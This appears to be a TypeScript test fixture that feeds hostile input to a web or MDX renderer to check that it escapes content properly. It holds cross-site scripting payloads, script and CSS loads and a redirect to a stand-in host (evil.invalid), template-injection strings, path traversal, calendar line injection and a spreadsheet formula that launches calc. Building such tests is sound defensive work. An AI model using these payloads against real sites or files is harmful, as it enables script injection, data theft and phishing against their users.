/**
 * What somebody might write into a field to break out of the place where it is shown. Whatever runs calls `pwned`,
 * whatever styles sets `--pwned`, whatever fetches asks evil.invalid: each can be seen from outside.
 */
export const payloads: readonly string[] = [
  `</style><script>pwned('style')</script>`,
  `</title></textarea></template></noscript></svg><script src=https://evil.invalid/x.js>pwned('title')</script>`,
  `"><img src=x onerror="pwned('double')">`,
  `'><svg onload='pwned("single")'><a href='javascript:pwned(1)'>x</a>`,
  `" autofocus onfocus="pwned('focus')" style="--pwned:attribute" x="`,
  `<iframe srcdoc="<script>parent.pwned('frame')</script>"></iframe><base href="https://evil.invalid/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.invalid/"><form action="https://evil.invalid/"><input autofocus>`,
  `<!-- --><!--> ]]> <![CDATA[ --!> <?xml ?>`,
  `&lt;script&gt;pwned('entity')&lt;/script&gt; &#60;img src=x onerror=pwned('number')&#62; &quot;`,
  `"; } } html{--pwned:css} @import url("https://evil.invalid/x.css"); /*`,
  `\\22 ; } html{--pwned:escape} \\a \\`,
  `*/ } ; html{--pwned:comment} @page{size:1in} :root{--paper:red}`,
  "{{constructor.constructor('pwned(2)')()}} ${pwned(3)} {pwned(4)} <%= pwned(5) %> #{pwned(6)} `",
  `[x](javascript:pwned(7)) ![x](https://evil.invalid/x.png) <https://evil.invalid>`,
  `, image[src], url[href], Kind:pwned`,
  `$& $1 $' $\` $$ %s %3Cscript%3E ..%2f..\\..\\ ../../x`,
  `size:A4 size: A4`,
  `\r\nBEGIN:VEVENT\r\nSUMMARY:pwned\r\nEND:VEVENT\r\n`,
  `${'Unbreakable'.repeat(30)}`,
];

/** What a spreadsheet takes for a formula when it stands first. */
const formula = `=cmd|'/C calc'!A0 `;

/**
 * A text with every payload in it, in an order that depends on the text, so that each stands first somewhere.
 * The same text always gets the same: content that names other content by its words still does.
 */
export function hostile(text: string): string {
  const start = [...text].reduce((sum, letter) => sum + letter.codePointAt(0)!, 0) % payloads.length;
  const turned = [...payloads.slice(start), ...payloads.slice(0, start)];
  return `${start % 2 ? formula : ''}${text} ${turned.join(' ')} end`;
}

/** The words that readers see of a text: white space collapsed as HTML does. */
export const shown = (text: string): string => text.replace(/\s+/g, ' ').trim();

/** What the syntax of MDX lets through as words, attributes and addresses. */
export const hostileBody = `
## Heading \\</style>\\<script>pwned(20)\\</script> &quot; \`<!--\`

Words &lt;script&gt;pwned(21)&lt;/script&gt; and \\<img src=x onerror=pwned(22)> and \`</style><script>pwned(23)</script>\`.
A [link](<https://example.com/?q="onmouseover="pwned(24)'> "title\\" onfocus=pwned(25)"), a
[second](https://example.com/&quot;&gt;&lt;script&gt;pwned(26)&lt;/script&gt;), a
[mail](mailto:a"onclick="pwned(27)@example.com), and **bold &lt;b&gt;** \\{pwned(28)\\}.

\`\`\`js"><script>pwned(29)</script>
</code></pre><script>pwned(30)</script> {pwned(31)} \${pwned(32)}
\`\`\`

| A &lt;script&gt;pwned(33)&lt;/script&gt; | B |
| :--- | ---: |
| \`</td><script>pwned(34)</script>\` | \\<b onclick=x> |

<Callout kind="note" title='"><img src=x onerror=pwned(35)> &lt;script&gt;pwned(36)&lt;/script&gt;'>

- [ ] \\<input autofocus onfocus=pwned(37)>

</Callout>

<Quote by="'><svg onload=pwned(38)> </style><script>pwned(39)</script>">

> \\<script>pwned(40)\\</script>

</Quote>

<Metric value="<script>pwned(41)</script>" label='</style>"><img src=x onerror=pwned(42)>' />

### Search dialog

### Content

### \\</h3>\\<script>pwned(43)\\</script>
`;
